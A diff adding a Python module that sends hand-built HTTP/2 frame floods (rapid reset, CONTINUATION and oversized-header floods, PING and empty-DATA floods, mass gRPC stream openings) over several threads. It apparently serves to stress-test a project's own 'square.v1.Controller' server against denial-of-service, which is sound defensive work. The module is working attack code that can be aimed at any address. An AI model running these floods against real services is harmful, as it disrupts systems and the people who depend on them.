@@ -1,0 +1,135 @@
+"""Floods of HTTP/2, frame by frame, by whoever has a certificate or none."""
+
+import contextlib
+import socket
+import ssl
+import threading
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
+END_HEADERS = 4
+AT_ONCE = 50  # frames in one write
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+
+
+def literal(name: bytes, value: bytes) -> bytes:
+    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
+
+
+def call_of(method: bytes) -> bytes:
+    path = b"/square.v1.Controller/" + method
+    fixed = b"\x83\x86\x04" + bytes([len(path)]) + path + b"\x01\x01a"
+    return fixed + literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers")
+
+
+def streams() -> Iterator[int]:
+    number = -1
+    while True:
+        number += 2
+        yield number
+
+
+def open_lines() -> Iterator[bytes]:
+    for stream in streams():
+        yield frame(HEADERS, END_HEADERS, stream, call_of(b"Attach"))
+
+
+def open_questions() -> Iterator[bytes]:
+    for stream in streams():
+        yield frame(HEADERS, END_HEADERS, stream, call_of(b"GetPlan"))
+
+
+def rapid_reset() -> Iterator[bytes]:
+    for stream in streams():
+        yield frame(HEADERS, END_HEADERS, stream, call_of(b"Attach")) + frame(RST_STREAM, 0, stream, bytes(4))
+
+
+def huge_header() -> Iterator[bytes]:
+    """Its name is said to have 1 GiB."""
+    length, said = (1 << 30) - 127, b"\x7f"
+    while length >= 128:
+        said += bytes([length % 128 | 128])
+        length //= 128
+    yield frame(HEADERS, 0, 1, b"\x83\x86\x04\x01/\x00" + said + bytes([length]))
+    while True:
+        yield frame(CONTINUATION, 0, 1, b"a" * 16_384)
+
+
+def continuations() -> Iterator[bytes]:
+    yield frame(HEADERS, 0, 1, call_of(b"Attach"))
+    while True:
+        yield frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 60))
+
+
+def pings() -> Iterator[bytes]:
+    while True:
+        yield frame(PING, 0, 0, bytes(8))
+
+
+def empty_data() -> Iterator[bytes]:
+    yield frame(HEADERS, END_HEADERS, 1, call_of(b"Attach"))
+    while True:
+        yield frame(DATA, 0, 1)
+
+
+FLOODS: dict[str, Callable[[], Iterator[bytes]]] = {
+    one.__name__: one
+    for one in (open_lines, open_questions, rapid_reset, huge_header, continuations, pings, empty_data)
+}
+
+
+def connect(address: str, identity: Path | None) -> socket.socket:
+    host, port = address.rsplit(":", 1)
+    connection = socket.create_connection((host, int(port)), timeout=5)
+    if identity is None:
+        return connection
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    context.load_cert_chain(identity / "identity.pem")
+    context.set_alpn_protocols(["h2"])
+    return context.wrap_socket(connection)
+
+
+def flood_once(address: str, name: str, identity: Path | None, end: float) -> None:
+    """Until it is cut off."""
+    with connect(address, identity) as connection:
+        connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
+        frames = FLOODS[name]()
+        while time.monotonic() < end:
+            connection.sendall(b"".join(next(frames) for _ in range(AT_ONCE)))
+
+
+class Flood:
+    """Of `seconds`, over `width` connections at a time, each made again when it is cut off."""
+
+    def __init__(
+        self, address: str, name: str, identity: Path | None, seconds: float, width: int = 4
+    ) -> None:
+        self.connections = 0
+        self._end = time.monotonic() + seconds
+        self._threads = [
+            threading.Thread(target=self._run, args=(address, name, identity)) for _ in range(width)
+        ]
+        for thread in self._threads:
+            thread.start()
+
+    def _run(self, address: str, name: str, identity: Path | None) -> None:
+        while time.monotonic() < self._end:
+            self.connections += 1
+            with contextlib.suppress(OSError):
+                flood_once(address, name, identity, self._end)
+
+    @property
+    def is_over(self) -> bool:
+        return not any(thread.is_alive() for thread in self._threads)
+
+    def join(self) -> None:
+        for thread in self._threads:
+            thread.join()
